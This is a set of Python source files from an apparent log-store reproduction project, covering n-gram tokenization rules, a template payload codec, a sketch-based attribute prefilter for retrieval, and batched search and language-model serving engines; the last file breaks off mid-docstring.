    batch).  A batch whose lines no longer strict-parse mines fresh
    templates and merges them in.  Deterministic in the store-wide line
    stream (the WAL-replay invariant).
    """

    name = "template"

    def __init__(self) -> None:
        self._templates: "list[list[str]] | None" = None
        self._strict: list[int] = []
        self._full: list[int] = []
        self._blob = b""

    def _adopt(self, templates: list[list[str]]) -> None:
        self._templates = templates
        full = specificity_order(templates)
        self._strict = [t for t in full if templates[t] != [GEN]]
        self._full = full
        self._blob = encode_dict(templates)

    def seal(self, group: str, lines: list[str]) -> "tuple[bytes, bytes | None]":
        templates = self._templates
        parsed = None
        if templates is not None:
            parsed = parse_lines(templates, self._strict, lines)
        if parsed is None:
            fresh = mine(lines)
            templates = fresh if templates is None else merge_dicts(templates, fresh)
            self._adopt(templates)
            parsed = parse_lines(templates, self._full, lines)
            assert parsed is not None, "catch-all template must parse every line"
        return encode_vars(templates, parsed), self._blob


def make_codec(name: str) -> PayloadCodec:
    if name == "raw":
        return RawCodec()
    if name == "template":
        return TemplateCodec()
    raise ValueError(f"unknown payload codec {name!r}")
