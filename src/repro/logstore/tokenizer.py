"""Tokenization (paper §5.1.1) — the eight rules, verbatim:

1. sequences of alphanumeric ASCII characters
2. sequences of non-alphanumeric ASCII characters (e.g. ``${{``)
3. sequences of non-ASCII characters (e.g. ``äöü``)
4. two alphanumeric tokens separated by one of ``[.:-_/@]`` (``name@company``)
5. three alphanumeric tokens separated by single dots (``192.0.0``)
6. every 3-gram of each alphanumeric ASCII token
7. every 1/2/3-gram of each non-alphanumeric ASCII token
8. every 2-gram of each non-ASCII token

Rules 1–5 produce the *full-term* vocabulary (what Lucene-class stores index);
rules 6–8 add the n-grams that let sketch stores answer arbitrary ``contains``
queries.  All tokens are lower-cased (§3.1's running example).
"""

from __future__ import annotations

import re
from functools import lru_cache
from typing import Callable

_ALNUM = re.compile(r"[a-z0-9]+")
# printable non-alnum ASCII, excluding whitespace
_NON_ALNUM_ASCII = re.compile(r"[!-/:-@\[-`{-~]+")
_NON_ASCII = re.compile(r"[^\x00-\x7f]+")
_SEP_PAIR = re.compile(r"(?<![a-z0-9])([a-z0-9]+)([.:\-_/@])([a-z0-9]+)(?![a-z0-9])")
_DOT_TRIPLE = re.compile(
    r"(?<![a-z0-9])([a-z0-9]+)\.([a-z0-9]+)\.([a-z0-9]+)(?![a-z0-9])"
)


def _ngrams(tok: str, ns: tuple[int, ...], out: list[str]) -> None:
    L = len(tok)
    for n in ns:
        # tokens shorter than the gram width are already emitted whole (1–3)
        for i in range(L - n + 1):
            out.append(tok[i : i + n])


def tokenize_line(line: str, *, ngrams: bool = True) -> list[str]:
    """All tokens for one log line.  ``ngrams=False`` → rules 1–5 only."""
    s = line.lower()  # repro: allow[R4] THE canonical fold: index AND query sides both come through here, so U+212A/U+0130 fold identically on both — no asymmetry, no false negatives
    out: list[str] = []
    alnum_toks = _ALNUM.findall(s)
    out.extend(alnum_toks)
    non_alnum_toks = _NON_ALNUM_ASCII.findall(s)
    out.extend(non_alnum_toks)
    non_ascii_toks = _NON_ASCII.findall(s)
    out.extend(non_ascii_toks)
    for m in _SEP_PAIR.finditer(s):
        out.append(m.group(0))
    for m in _DOT_TRIPLE.finditer(s):
        out.append(m.group(0))
    if ngrams:
        for tok in alnum_toks:
            _ngrams(tok, (3,), out)
        for tok in non_alnum_toks:
            _ngrams(tok, (1, 2, 3), out)
        for tok in non_ascii_toks:
            _ngrams(tok, (2,), out)
    return out


def term_query_tokens(term: str) -> list[str]:
    """Tokens to look up for a *term* query: the term itself as one token."""
    return [term.lower()]  # repro: allow[R4] query-side use of the same canonical fold as tokenize_line


def is_single_alnum_run(text: str) -> bool:
    """True if ``text`` is one maximal rule-1 ``[a-z0-9]+`` run.  Such a
    substring cannot cross a token delimiter, so in any line containing it,
    it lies inside exactly one rule-1 token — the property full-term
    lexicons (InvertedStore) rely on to bound substring queries."""
    return bool(_ALNUM.fullmatch(text))


_CLS2 = r"!-/:-@\[-`{-~"  # rule-2 charset (printable non-alnum ASCII)
_CLS3 = r"^\x00-\x7f"  # rule-3 charset (non-ASCII)


def term_membership(term: str) -> "Callable[[str], bool]":
    """``pred(line_lower)`` ⟺ ``term in tokenize_line(line_lower,
    ngrams=False)`` — without materializing the token list.

    The five full-term rules emit mutually exclusive *shapes* (pure alnum,
    pure rule-2 charset, pure non-ASCII, run-sep-run, run.run.run), so only
    the rule matching the term's own shape can ever emit it.  Run-shaped
    terms (rules 1–3) are maximal-run matches — one lookaround regex search;
    pair/triple terms (rules 4–5) replay the rule's own non-overlapping
    ``finditer`` (emission is position-dependent: an earlier overlapping
    match can consume a run, e.g. ``a.foo-bar`` never emits ``foo-bar``).
    A term fitting no shape is never a token of any line.
    """
    for cls in (r"a-z0-9", _CLS2, _CLS3):
        if re.fullmatch(f"[{cls}]+", term):
            pat = re.compile(f"(?<![{cls}]){re.escape(term)}(?![{cls}])")
            return lambda line: pat.search(line) is not None
    for scan in (_SEP_PAIR, _DOT_TRIPLE):
        if scan.fullmatch(term):
            return lambda line, scan=scan: any(m.group(0) == term for m in scan.finditer(line))
    return lambda line: False


_RUNS = re.compile(r"([a-z0-9]+)|([!-/:-@\[-`{-~]+)|([^\x00-\x7f]+)")


@lru_cache(maxsize=4096)
def _contains_tokens_cached(term: str) -> tuple[str, ...]:
    s = term.lower()  # repro: allow[R4] query-side use of the same canonical fold as tokenize_line
    runs = [(m.lastindex, m.group(0)) for m in _RUNS.finditer(s)]
    out: list[str] = []
    for i, (kind, tok) in enumerate(runs):
        boundary = i == 0 or i == len(runs) - 1
        if kind == 1:  # alnum: only 3-grams are always indexed
            if len(tok) >= 3:
                _ngrams(tok, (3,), out)
            elif not boundary:
                # an interior short run is delimited in any containing line,
                # so it appears as a full rule-1 token there
                out.append(tok)
            # boundary run < 3 chars: may be a fragment of a longer run in
            # the line — no indexed gram is guaranteed; drop (over-approximate)
        elif kind == 2:  # non-alnum ascii: 1-grams indexed → always safe
            if len(tok) >= 3:
                _ngrams(tok, (3,), out)
            else:
                out.append(tok)
        else:  # non-ascii: 2-grams indexed
            if len(tok) >= 2:
                _ngrams(tok, (2,), out)
            elif not boundary:
                out.append(tok)
    if not out:
        # nothing guaranteed-indexed: return no tokens — caller must fall
        # back to scanning every batch (zero search-space reduction)
        return ()
    return tuple(dict.fromkeys(out))


def contains_query_tokens(term: str) -> list[str]:
    """n-gram tokens whose AND over-approximates ``term in line`` (§5.2).

    Every returned gram lies strictly inside one of the query term's
    character-class runs, so it must be indexed for any line containing the
    term — the AND can produce false positives, never false negatives.
    Boundary runs too short to carry a guaranteed gram are dropped.
    """
    return list(_contains_tokens_cached(term))


def planner_tokens(text: str, contains: bool) -> list[str]:
    """Guaranteed-indexed tokens for one planner atom ``(text, contains)``.

    Empty means no token is guaranteed to be indexed for lines matching the
    atom (e.g. ``Contains("ab")`` — every boundary run too short for a
    rule-6–8 gram): the planner cannot bound the atom and must fall back to
    scanning every batch (surfaced as ``SearchResult.fallback_scan``).
    """
    return contains_query_tokens(text) if contains else term_query_tokens(text)
