"""Tokenization (paper §5.1.1) — the eight rules, verbatim:

1. sequences of alphanumeric ASCII characters
2. sequences of non-alphanumeric ASCII characters (e.g. ``${{``)
3. sequences of non-ASCII characters (e.g. ``äöü``)
4. two alphanumeric tokens separated by one of ``[.:-_/@]`` (``name@company``)
5. three alphanumeric tokens separated by single dots (``192.0.0``)
6. every 3-gram of each alphanumeric ASCII token
7. every 1/2/3-gram of each non-alphanumeric ASCII token
8. every 2-gram of each non-ASCII token

Rules 1–5 produce the *full-term* vocabulary (what Lucene-class stores index);
rules 6–8 add the n-grams that let sketch stores answer arbitrary ``contains``
queries.  All tokens are lower-cased (§3.1's running example).
"""

from __future__ import annotations

import re
from functools import lru_cache
from typing import Callable

import numpy as np

_ALNUM = re.compile(r"[a-z0-9]+")
# printable non-alnum ASCII, excluding whitespace
_NON_ALNUM_ASCII = re.compile(r"[!-/:-@\[-`{-~]+")
_NON_ASCII = re.compile(r"[^\x00-\x7f]+")
_SEP_PAIR = re.compile(r"(?<![a-z0-9])([a-z0-9]+)([.:\-_/@])([a-z0-9]+)(?![a-z0-9])")
_DOT_TRIPLE = re.compile(
    r"(?<![a-z0-9])([a-z0-9]+)\.([a-z0-9]+)\.([a-z0-9]+)(?![a-z0-9])"
)


def _ngrams(tok: str, ns: tuple[int, ...], out: list[str]) -> None:
    L = len(tok)
    for n in ns:
        # tokens shorter than the gram width are already emitted whole (1–3)
        for i in range(L - n + 1):
            out.append(tok[i : i + n])


def tokenize_line(line: str, *, ngrams: bool = True) -> list[str]:
    """All tokens for one log line.  ``ngrams=False`` → rules 1–5 only."""
    s = line.lower()  # repro: allow[R4] THE canonical fold: index AND query sides both come through here, so U+212A/U+0130 fold identically on both — no asymmetry, no false negatives
    out: list[str] = []
    alnum_toks = _ALNUM.findall(s)
    out.extend(alnum_toks)
    non_alnum_toks = _NON_ALNUM_ASCII.findall(s)
    out.extend(non_alnum_toks)
    non_ascii_toks = _NON_ASCII.findall(s)
    out.extend(non_ascii_toks)
    for m in _SEP_PAIR.finditer(s):
        out.append(m.group(0))
    for m in _DOT_TRIPLE.finditer(s):
        out.append(m.group(0))
    if ngrams:
        for tok in alnum_toks:
            _ngrams(tok, (3,), out)
        for tok in non_alnum_toks:
            _ngrams(tok, (1, 2, 3), out)
        for tok in non_ascii_toks:
            _ngrams(tok, (2,), out)
    return out


# -- batched tokenization (the ingest hot path) ---------------------------------------
#
# Both batched entry points tokenize ``"\n".join(lines).lower()`` in ONE pass
# per rule regex instead of five passes per line.  That is safe because:
#
#   * ``'\n'`` has no case mapping, is not cased and not case-ignorable, so
#     ``str.lower`` treats it exactly like a string boundary (including the
#     Final_Sigma context rule) — lowering the joined string equals joining
#     the per-line lowers;
#   * no rule charset contains ``'\n'`` (rule 2 is *printable* non-alnum
#     ASCII) and every lookaround treats it like a string edge, so no match
#     or match decision ever crosses a line boundary.
#
# Rather than trusting the proof, both functions verify the separator count
# after lowering and fall back to the per-line path when lines themselves
# contain ``'\n'`` (or any other assumption breaks) — parity with
# ``tokenize_line`` is pinned by ``tests/test_batch_ingest.py``.

_EMPTY_I64 = np.empty(0, dtype=np.int64)


def _joined_lower(lines: list[str]) -> tuple[str, np.ndarray] | None:
    """``("\\n".join(lines).lower()``, per-line char starts) — or ``None``
    when the join/lower short-cut is not provably line-aligned."""
    s = "\n".join(lines).lower()  # repro: allow[R4] the same canonical fold as tokenize_line, applied to the joined batch; per-line parity pinned by tests/test_batch_ingest.py
    if s.count("\n") != len(lines) - 1:
        return None
    lens = np.fromiter((len(p) for p in s.split("\n")), np.int64, count=len(lines))
    starts = np.zeros(len(lines), np.int64)
    np.cumsum(lens[:-1] + 1, out=starts[1:])
    return s, starts


def _match_arrays(pat: re.Pattern[str], s: str) -> tuple[np.ndarray, np.ndarray]:
    """(starts, ends) char offsets of every match of ``pat`` in ``s``."""
    starts: list[int] = []
    ends: list[int] = []
    for m in pat.finditer(s):
        starts.append(m.start())
        ends.append(m.end())
    if not starts:
        return _EMPTY_I64, _EMPTY_I64
    return (
        np.asarray(starts, dtype=np.int64),
        np.asarray(ends, dtype=np.int64),
    )


def tokenize_lines(lines: list[str], *, ngrams: bool = True) -> list[list[str]]:
    """``[tokenize_line(line, ngrams=ngrams) for line in lines]`` — same
    tokens, same per-line order — computed in one regex pass per rule over
    the joined batch instead of five passes per line."""
    n = len(lines)
    if n == 0:
        return []
    if n == 1:
        return [tokenize_line(lines[0], ngrams=ngrams)]
    jl = _joined_lower(lines)
    if jl is None:
        return [tokenize_line(line, ngrams=ngrams) for line in lines]
    s, line_starts = jl

    def bucket(pat: re.Pattern[str]) -> list[list[str]]:
        toks: list[list[str]] = [[] for _ in range(n)]
        ms = list(pat.finditer(s))
        if ms:
            pos = np.fromiter((m.start() for m in ms), np.int64, count=len(ms))
            lids = np.searchsorted(line_starts, pos, side="right") - 1
            for m, li in zip(ms, lids):
                toks[li].append(m.group(0))
        return toks

    alnum = bucket(_ALNUM)
    non_alnum = bucket(_NON_ALNUM_ASCII)
    non_ascii = bucket(_NON_ASCII)
    sep = bucket(_SEP_PAIR)
    dot = bucket(_DOT_TRIPLE)
    out: list[list[str]] = []
    for i in range(n):
        # mirror tokenize_line's emission order exactly: rules 1-5, then 6-8
        toks = list(alnum[i])
        toks += non_alnum[i]
        toks += non_ascii[i]
        toks += sep[i]
        toks += dot[i]
        if ngrams:
            for tok in alnum[i]:
                _ngrams(tok, (3,), toks)
            for tok in non_alnum[i]:
                _ngrams(tok, (1, 2, 3), toks)
            for tok in non_ascii[i]:
                _ngrams(tok, (2,), toks)
        out.append(toks)
    return out


def _gram_spans(
    starts: np.ndarray, lens: np.ndarray, width: int
) -> tuple[np.ndarray, np.ndarray]:
    """Char spans of every ``width``-gram of the runs ``(starts, lens)``."""
    cnt = np.maximum(lens - width + 1, 0)
    total = int(cnt.sum())
    if total == 0:
        return _EMPTY_I64, _EMPTY_I64
    base = np.repeat(np.cumsum(cnt) - cnt, cnt)
    offs = np.arange(total, dtype=np.int64) - base
    return np.repeat(starts, cnt) + offs, np.full(total, width, np.int64)


def line_token_spans(
    lines: list[str],
) -> tuple[np.ndarray, np.ndarray, np.ndarray, np.ndarray] | None:
    """Byte-level token spans for a batch of lines, for the fingerprint
    kernel: ``(slab, starts, lengths, line_ids)`` where ``slab`` is the
    UTF-8 bytes of the lowered batch and every token occurrence is one
    ``(start, length)`` span into it.

    Spans come out category-major, NOT in ``tokenize_line`` order — but the
    per-line *multiset* of tokens is identical, which is all the fingerprint
    path needs (fingerprints are order-free).  Returns ``None`` when the
    batch needs the per-line fallback (embedded newlines, lone surrogates).
    """
    n = len(lines)
    if n == 0:
        return None
    jl = _joined_lower(lines)
    if jl is None:
        return None
    s, line_starts = jl
    try:
        slab = np.frombuffer(s.encode("utf-8"), dtype=np.uint8)
    except UnicodeEncodeError:
        # lone surrogates: fingerprint32 encodes with surrogatepass, the
        # slab cannot — take the per-line path
        return None

    a1, b1 = _match_arrays(_ALNUM, s)
    a2, b2 = _match_arrays(_NON_ALNUM_ASCII, s)
    a3, b3 = _match_arrays(_NON_ASCII, s)
    a4, b4 = _match_arrays(_SEP_PAIR, s)
    a5, b5 = _match_arrays(_DOT_TRIPLE, s)
    l1, l2, l3 = b1 - a1, b2 - a2, b3 - a3
    span_starts = [a1, a2, a3, a4, a5]
    span_lens = [l1, l2, l3, b4 - a4, b5 - a5]
    for (ra, rl), ws in (((a1, l1), (3,)), ((a2, l2), (1, 2, 3)), ((a3, l3), (2,))):
        for w in ws:
            gs, gl = _gram_spans(ra, rl, w)
            span_starts.append(gs)
            span_lens.append(gl)
    starts = np.concatenate(span_starts)
    lens = np.concatenate(span_lens)
    line_ids = np.searchsorted(line_starts, starts, side="right") - 1
    if len(slab) != len(s):
        # non-ASCII batch: map char offsets to byte offsets via per-char
        # UTF-8 widths
        cps = np.frombuffer(s.encode("utf-32-le"), dtype=np.uint32)
        widths = np.ones(len(s), np.int64)
        widths += cps > 0x7F
        widths += cps > 0x7FF
        widths += cps > 0xFFFF
        c2b = np.zeros(len(s) + 1, np.int64)
        np.cumsum(widths, out=c2b[1:])
        ends = c2b[starts + lens]
        starts = c2b[starts]
        lens = ends - starts
    return slab, starts, lens, line_ids


def term_query_tokens(term: str) -> list[str]:
    """Tokens to look up for a *term* query: the term itself as one token."""
    return [term.lower()]  # repro: allow[R4] query-side use of the same canonical fold as tokenize_line


def is_single_alnum_run(text: str) -> bool:
    """True if ``text`` is one maximal rule-1 ``[a-z0-9]+`` run.  Such a
    substring cannot cross a token delimiter, so in any line containing it,
    it lies inside exactly one rule-1 token — the property full-term
    lexicons (InvertedStore) rely on to bound substring queries."""
    return bool(_ALNUM.fullmatch(text))


_CLS2 = r"!-/:-@\[-`{-~"  # rule-2 charset (printable non-alnum ASCII)
_CLS3 = r"^\x00-\x7f"  # rule-3 charset (non-ASCII)


def term_membership(term: str) -> "Callable[[str], bool]":
    """``pred(line_lower)`` ⟺ ``term in tokenize_line(line_lower,
    ngrams=False)`` — without materializing the token list.

    The five full-term rules emit mutually exclusive *shapes* (pure alnum,
    pure rule-2 charset, pure non-ASCII, run-sep-run, run.run.run), so only
    the rule matching the term's own shape can ever emit it.  Run-shaped
    terms (rules 1–3) are maximal-run matches — one lookaround regex search;
    pair/triple terms (rules 4–5) replay the rule's own non-overlapping
    ``finditer`` (emission is position-dependent: an earlier overlapping
    match can consume a run, e.g. ``a.foo-bar`` never emits ``foo-bar``).
    A term fitting no shape is never a token of any line.
    """
    for cls in (r"a-z0-9", _CLS2, _CLS3):
        if re.fullmatch(f"[{cls}]+", term):
            pat = re.compile(f"(?<![{cls}]){re.escape(term)}(?![{cls}])")
            return lambda line: pat.search(line) is not None
    for scan in (_SEP_PAIR, _DOT_TRIPLE):
        if scan.fullmatch(term):
            return lambda line, scan=scan: any(m.group(0) == term for m in scan.finditer(line))
    return lambda line: False


_RUNS = re.compile(r"([a-z0-9]+)|([!-/:-@\[-`{-~]+)|([^\x00-\x7f]+)")


@lru_cache(maxsize=4096)
def _contains_tokens_cached(term: str) -> tuple[str, ...]:
    s = term.lower()  # repro: allow[R4] query-side use of the same canonical fold as tokenize_line
    runs = [(m.lastindex, m.group(0)) for m in _RUNS.finditer(s)]
    out: list[str] = []
    for i, (kind, tok) in enumerate(runs):
        boundary = i == 0 or i == len(runs) - 1
        if kind == 1:  # alnum: only 3-grams are always indexed
            if len(tok) >= 3:
                _ngrams(tok, (3,), out)
            elif not boundary:
                # an interior short run is delimited in any containing line,
                # so it appears as a full rule-1 token there
                out.append(tok)
            # boundary run < 3 chars: may be a fragment of a longer run in
            # the line — no indexed gram is guaranteed; drop (over-approximate)
        elif kind == 2:  # non-alnum ascii: 1-grams indexed → always safe
            if len(tok) >= 3:
                _ngrams(tok, (3,), out)
            else:
                out.append(tok)
        else:  # non-ascii: 2-grams indexed
            if len(tok) >= 2:
                _ngrams(tok, (2,), out)
            elif not boundary:
                out.append(tok)
    if not out:
        # nothing guaranteed-indexed: return no tokens — caller must fall
        # back to scanning every batch (zero search-space reduction)
        return ()
    return tuple(dict.fromkeys(out))


def contains_query_tokens(term: str) -> list[str]:
    """n-gram tokens whose AND over-approximates ``term in line`` (§5.2).

    Every returned gram lies strictly inside one of the query term's
    character-class runs, so it must be indexed for any line containing the
    term — the AND can produce false positives, never false negatives.
    Boundary runs too short to carry a guaranteed gram are dropped.
    """
    return list(_contains_tokens_cached(term))


def planner_tokens(text: str, contains: bool) -> list[str]:
    """Guaranteed-indexed tokens for one planner atom ``(text, contains)``.

    Empty means no token is guaranteed to be indexed for lines matching the
    atom (e.g. ``Contains("ab")`` — every boundary run too short for a
    rule-6–8 gram): the planner cannot bound the atom and must fall back to
    scanning every batch (surfaced as ``SearchResult.fallback_scan``).
    """
    return contains_query_tokens(text) if contains else term_query_tokens(text)
