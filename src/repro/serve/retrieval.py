"""Sketch-prefiltered candidate retrieval (recsys × COPR integration).

The ``retrieval_cand`` cell scores one query against 10⁶ candidates.  The
COPR sketch narrows that set first: item attribute tokens (brand, category,
free-text) are indexed per candidate *block* (posting = block of item ids);
an attribute-filtered query AND-intersects the blocks, and only surviving
blocks are scored with the batched dot product (``twotower_retrieve`` /
the Bass ``candidate_score`` kernel).

This is the paper's needle-in-haystack play applied to retrieval: the
sketch costs ~2% storage of the item corpus and cuts scored candidates by
the filter's selectivity.
"""

from __future__ import annotations

from dataclasses import dataclass

import jax.numpy as jnp
import numpy as np

from ..core import CoprSketch, SketchConfig
from ..core.immutable_sketch import ImmutableSketch
from ..core.query import IntersectConsumer, execute_queries
from ..core.querylang import And, Query, Term, as_query, candidate_sets, merged_atoms


@dataclass
class IndexedCorpus:
    sketch_reader: ImmutableSketch
    block_size: int
    n_items: int

    @property
    def n_blocks(self) -> int:
        return (self.n_items + self.block_size - 1) // self.block_size


def build_attribute_index(
    item_attrs: list[list[str]], *, block_size: int = 1024, sig_bits: int = 16
) -> IndexedCorpus:
    """Index item attribute tokens; posting = item-id block."""
    n_items = len(item_attrs)
    n_blocks = (n_items + block_size - 1) // block_size
    sk = CoprSketch(SketchConfig(max_postings=max(16, n_blocks), sig_bits=sig_bits))
    for i, attrs in enumerate(item_attrs):
        sk.add_tokens([a.lower() for a in attrs], i // block_size)
    return IndexedCorpus(sk.seal_reader(), block_size, n_items)


def _blocks_to_ids(corpus: IndexedCorpus, blocks) -> np.ndarray:
    ids = []
    for b in blocks:
        lo = b * corpus.block_size
        hi = min(corpus.n_items, lo + corpus.block_size)
        ids.append(np.arange(lo, hi, dtype=np.int64))
    return np.concatenate(ids) if ids else np.zeros(0, dtype=np.int64)


def plan_attribute_blocks(
    corpus: IndexedCorpus, queries: list[Query]
) -> list[list[int]]:
    """Structured attribute prefilter: boolean ASTs → candidate block ids.

    The same Query→Plan pipeline the log stores run, specialized to the
    attribute corpus: every ``Term`` leaf is one whole attribute token, all
    Term leaves across the batch share one vectorized probe + decode pass,
    and the boolean algebra combines the per-leaf block sets (``Not``
    complements over the block universe; ``Source`` never matches — corpora
    have no sources).  The corpus indexes whole attributes only (no
    n-grams), so a ``Contains`` leaf cannot be bounded: it falls back to the
    full block universe — a correct superset, pruned by nothing.  Use
    ``Term`` for attribute filters.
    """
    asts = [as_query(q) for q in queries]
    keys = merged_atoms(asts)
    universe = frozenset(range(corpus.n_blocks))
    term_keys = [k for k in keys if not k[1]]
    consumers = execute_queries(
        corpus.sketch_reader, [[text.lower()] for text, _ in term_keys],
        IntersectConsumer,
    )
    atom_sets = {
        key: frozenset(c.result or set()) for key, c in zip(term_keys, consumers)
    }
    # substring leaves: the whole-attribute lexicon cannot bound them
    atom_sets.update({k: universe for k in keys if k[1]})
    no_sources = lambda name: frozenset()
    return [
        sorted(candidate_sets(ast, atom_sets, universe, no_sources)[0])
        for ast in asts
    ]


def prefilter_candidates_batch(
    corpus: IndexedCorpus, queries: list[list[str] | Query]
) -> list[np.ndarray]:
    """Batched prefilter: all queries share one sketch probe + decode pass.

    This is the serve hot path — concurrent requests' attribute tokens are
    fingerprinted and probed in a single vectorized call, and overlapping
    attribute sets (brand/category tokens repeat heavily across requests)
    decode each unique posting list once for the whole batch.  Each query is
    either a boolean :class:`Query` AST or the legacy list-of-required-attrs
    form (an implicit AND of Terms).
    """
    asts = [
        q if isinstance(q, Query) else And(*(Term(a) for a in q)) for q in queries
    ]
    return [
        _blocks_to_ids(corpus, blocks)
        for blocks in plan_attribute_blocks(corpus, asts)
    ]


def prefilter_candidates(corpus: IndexedCorpus, required_attrs) -> np.ndarray:
    """Item ids in blocks matching the query (may contain FPs).

    ``required_attrs``: attribute list (AND of Terms) or a :class:`Query`.
    """
    return prefilter_candidates_batch(corpus, [required_attrs])[0]


def filtered_retrieve(params, batch, cfg, corpus: IndexedCorpus, required_attrs, *, top_k=100):
    """End-to-end: sketch prefilter → batched-dot scoring → top-k."""
    from ..models.recsys import twotower_retrieve

    cand = prefilter_candidates(corpus, required_attrs)
    if cand.size == 0:
        return np.zeros((0,), np.float32), np.zeros((0,), np.int64)
    b = dict(batch)
    b["candidates"] = jnp.asarray(cand)
    k = min(top_k, cand.size)
    vals, ids = twotower_retrieve(params, b, cfg, top_k=k)
    return np.asarray(vals), np.asarray(ids)
