"""Serving layer: batched LM generation, batched log search, retrieval."""

from .engine import GenRequest, IngestServer, LMServer, SearchRequest, SearchServer
from .retrieval import (
    IndexedCorpus,
    build_attribute_index,
    filtered_retrieve,
    plan_attribute_blocks,
    prefilter_candidates,
    prefilter_candidates_batch,
)

__all__ = [
    "GenRequest",
    "IndexedCorpus",
    "IngestServer",
    "LMServer",
    "SearchRequest",
    "SearchServer",
    "build_attribute_index",
    "filtered_retrieve",
    "plan_attribute_blocks",
    "prefilter_candidates",
    "prefilter_candidates_batch",
]
