"""Serving layer: batched LM generation, sketch-prefiltered retrieval."""

from .engine import GenRequest, LMServer
from .retrieval import IndexedCorpus, build_attribute_index, filtered_retrieve, prefilter_candidates

__all__ = [
    "GenRequest",
    "IndexedCorpus",
    "LMServer",
    "build_attribute_index",
    "filtered_retrieve",
    "prefilter_candidates",
]
