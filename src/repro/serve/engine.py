"""Serving engines: batched LM generation and batched log search.

``LMServer``: host-side continuous-batching-lite — requests queue up, get
padded into a fixed decode batch, and step together; finished sequences free
their slots.  Device-side steps are the transformer's ``prefill`` /
``decode_step`` — the same functions the decode/long dry-run cells lower.

``SearchServer``: the same queue-then-batch discipline for log-store queries.
Requests carry boolean query ASTs (:mod:`repro.core.querylang`); a drained
batch goes through ``LogStore.search_many``, which plans every query's atoms
in one batched Algorithm-3 pass (one vectorized sketch probe for every token
of every query, each unique posting list decoded once per batch) and then
post-filters candidates exactly.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from functools import partial

import jax
import jax.numpy as jnp
import numpy as np

from ..core.querylang import Contains, Query, SearchResult, Term
from ..models.transformer import LMConfig, decode_step, init_cache, prefill


@dataclass
class SearchRequest:
    request_id: int
    query: Query


class SearchServer:
    """Batched log-search serving over any :class:`~repro.logstore.LogStore`.

    Every store implements the same ``search_many`` pipeline (sketch stores
    batch the planning phase; others probe per atom), so the server works
    uniformly across every registered store class.
    """

    def __init__(self, store, *, max_batch: int = 32) -> None:
        self.store = store
        self.max_batch = max_batch
        self.queue: list[SearchRequest] = []
        self._next_id = 0
        self.n_planned_batches = 0

    @classmethod
    def from_directory(cls, path, *, max_batch: int = 32) -> "SearchServer":
        """Boot a server from a persisted store directory (docs/persistence.md).

        Opening is zero-parse — sealed sketches come back as mmaps and batch
        payloads stay compressed on disk until a query post-filters them — so
        serving a multi-GB store starts in milliseconds.
        """
        from ..logstore import open_store

        return cls(open_store(path), max_batch=max_batch)

    def submit(self, query: Query | str, *, contains: bool = True) -> int:
        """Enqueue a structured query (or a bare term — ``contains`` picks the
        legacy Contains/Term semantics for strings)."""
        if isinstance(query, str):
            query = Contains(query) if contains else Term(query)
        rid = self._next_id
        self._next_id += 1
        self.queue.append(SearchRequest(rid, query))
        return rid

    def run(self) -> dict[int, list[str]]:
        """Drain the queue; returns {request_id: matching lines}."""
        return {rid: r.lines for rid, r in self.run_detailed().items()}

    def run_detailed(self) -> dict[int, SearchResult]:
        """Drain the queue; returns {request_id: SearchResult} with counters."""
        results: dict[int, SearchResult] = {}
        while self.queue:
            batch = self.queue[: self.max_batch]
            self.queue = self.queue[self.max_batch :]
            outs = self.store.search_many([r.query for r in batch])
            self.n_planned_batches += 1
            for r, res in zip(batch, outs):
                results[r.request_id] = res
        return results


@dataclass
class GenRequest:
    request_id: int
    prompt: np.ndarray  # int32 [S]
    max_new_tokens: int = 16
    generated: list[int] = field(default_factory=list)
    done: bool = False


class LMServer:
    """Single-model batched generation (greedy)."""

    def __init__(self, params, cfg: LMConfig, *, max_batch: int = 8, max_seq: int = 256):
        self.params = params
        self.cfg = cfg
        self.max_batch = max_batch
        self.max_seq = max_seq
        self._prefill = jax.jit(partial(self._prefill_impl, cfg=cfg, max_seq=max_seq))
        self._decode = jax.jit(partial(self._decode_impl, cfg=cfg))
        self.queue: list[GenRequest] = []
        self._next_id = 0

    @staticmethod
    def _prefill_impl(params, tokens, *, cfg, max_seq):
        return prefill(params, tokens, cfg, max_seq=max_seq)

    @staticmethod
    def _decode_impl(params, cache, tokens, *, cfg):
        return decode_step(params, cache, tokens, cfg)

    def submit(self, prompt: np.ndarray, max_new_tokens: int = 16) -> int:
        rid = self._next_id
        self._next_id += 1
        self.queue.append(GenRequest(rid, np.asarray(prompt, np.int32), max_new_tokens))
        return rid

    def run(self) -> dict[int, list[int]]:
        """Drain the queue; returns {request_id: generated tokens}."""
        results: dict[int, list[int]] = {}
        while self.queue:
            batch = self.queue[: self.max_batch]
            self.queue = self.queue[self.max_batch :]
            # pad prompts to a common length (left-padding keeps last token hot)
            plen = max(len(r.prompt) for r in batch)
            toks = np.zeros((len(batch), plen), np.int32)
            for i, r in enumerate(batch):
                toks[i, plen - len(r.prompt) :] = r.prompt
            logits, cache = self._prefill(self.params, jnp.asarray(toks))
            cur = jnp.argmax(logits, axis=-1)
            steps = max(r.max_new_tokens for r in batch)
            for _ in range(steps):
                for i, r in enumerate(batch):
                    if not r.done:
                        r.generated.append(int(cur[i]))
                        if len(r.generated) >= r.max_new_tokens:
                            r.done = True
                if all(r.done for r in batch):
                    break
                logits, cache = self._decode(self.params, cache, cur)
                cur = jnp.argmax(logits, axis=-1)
            for r in batch:
                results[r.request_id] = r.generated
        return results
