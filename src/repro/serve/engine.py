"""Serving engines: batched LM generation and batched log search.

``LMServer``: host-side continuous-batching-lite — requests queue up, get
padded into a fixed decode batch, and step together; finished sequences free
their slots.  Device-side steps are the transformer's ``prefill`` /
``decode_step`` — the same functions the decode/long dry-run cells lower.

``SearchServer``: the same queue-then-batch discipline for log-store queries,
now thread-safe (docs/concurrency.md).  Many client threads ``submit()`` into
a bounded queue (a full queue blocks the submitter — backpressure, not
unbounded memory); a background drain loop (``start()``) or the legacy
synchronous ``run()``/``run_detailed()`` pulls up to ``max_batch`` requests,
takes one :meth:`LogStore.snapshot` for the batch, and executes
``search_many`` on it — one batched Algorithm-3 pass (one vectorized sketch
probe for every token of every query, shared posting-list decodes), exact
post-filter, lock-free against concurrent ingest into the same store.
"""

from __future__ import annotations

import itertools
import queue as queue_mod
import threading
from dataclasses import dataclass, field
from functools import partial

import jax
import jax.numpy as jnp
import numpy as np

from ..core.querylang import Contains, Query, SearchResult, Term
from ..models.transformer import LMConfig, decode_step, prefill


@dataclass
class SearchRequest:
    request_id: int
    query: Query


class SearchServer:
    """Batched log-search serving over any :class:`~repro.logstore.LogStore`.

    Every store implements the same ``search_many`` pipeline (sketch stores
